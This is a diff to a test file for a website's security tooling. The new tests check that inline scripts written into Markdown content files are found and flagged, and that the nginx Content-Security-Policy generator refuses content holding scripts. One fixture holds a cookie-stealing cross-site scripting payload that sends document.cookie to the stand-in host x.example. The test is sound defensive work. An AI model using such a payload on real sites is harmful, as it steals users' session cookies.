@@ -6,7 +6,7 @@ import { join } from 'node:path';
 import { gzipSync } from 'node:zlib';
 import { afterAll, describe, expect, it } from 'vitest';
 import { contentSecurityPolicy } from '../../src/server/csp.ts';
-import { inlineScriptHashes, inlineScripts, scriptHash } from '../../src/server/inline-scripts.ts';
+import { inlineScriptHashes, inlineScripts, scriptHash, scriptsFromContent } from '../../src/server/inline-scripts.ts';
 import { renderNginxConfig } from '../../src/server/nginx-config.ts';
 
 describe('inline scripts', () => {
@@ -19,6 +19,18 @@ describe('inline scripts', () => {
 		const expected = createHash('sha256').update('a()').digest('base64');
 		expect(scriptHash('a()')).toBe(`'sha256-${expected}'`);
 		expect(inlineScriptHashes([html, html])).toHaveLength(3);
+	});
+	it('names every inline script whose text an author wrote in a content file', () => {
+		const page = '<script>theme()</script><p>Tekst</p><script>fetch("https://x.example/?c=" + document.cookie)</script><script>alert(1)</script><script>1</script>';
+		const content = [
+			{ file: 'content/tips/a.md', text: '---\ntitle: A\nsources: [theme()]\n---\n\nTekst 1.' },
+			{ file: 'content/tips/b.md', text: '---\ntitle: B\n---\n\n<SCRIPT>fetch("https://x.example/?c=" + document.cookie)</SCRIPT>' },
+			{ file: 'content/articles/c.mdx', text: '---\ntitle: C\n---\n\n<script>{"alert(1)"}</script>' },
+		];
+		expect(scriptsFromContent([page, page], content)).toEqual([
+			{ script: 'fetch("https://x.example/?c=" + document.cookie)', file: 'content/tips/b.md' },
+			{ script: 'alert(1)', file: 'content/articles/c.mdx' },
+		]);
 	});
 });
 
@@ -61,8 +73,9 @@ describe('the nginx server block', () => {
 	});
 });
 
-describe('npm run nginx-config', () => {
-	const run = (args: string[]) => spawnSync(process.execPath, ['src/cli/nginx-config.ts', ...args], { encoding: 'utf8' });
+describe('npm run nginx-config', { timeout: 30_000 }, () => {
+	const run = (args: string[], env: Record<string, string> = {}) =>
+		spawnSync(process.execPath, ['src/cli/nginx-config.ts', ...args], { encoding: 'utf8', env: { ...process.env, ...env } });
 	const dir = mkdtempSync(join(tmpdir(), 'nginx-config-'));
 	afterAll(() => rmSync(dir, { recursive: true, force: true }));
 
@@ -81,5 +94,14 @@ describe('npm run nginx-config', () => {
 		expect(result.stdout).toContain('brotli_static on;');
 		writeFileSync(join(dir, 'index.html.gz'), gzipSync('<!doctype html><title>Handboek</title><script>1</script>'));
 		expect(run(['--root', dir]).stderr).toBe('');
+	});
+
+	it('writes no policy for content that fails the check, which refuses scripts in texts', () => {
+		writeFileSync(join(dir, 'index.html'), '<!doctype html><title>Handboek</title><script>alert(1)</script>');
+		const result = run(['--root', dir], { HANDBOOK_CONTENT: 'tests/fixtures/content-bad' });
+		expect(result.status).toBe(1);
+		expect(result.stdout).toBe('');
+		expect(result.stderr).toContain('tests/fixtures/content-bad/tips/met-html.md — tip "met-html", field "text at line 8": <script> is not allowed in a text');
+		expect(result.stderr).toMatch(/npm run nginx-config writes a policy only for content that passes npm run check\.\n$/);
 	});
 });
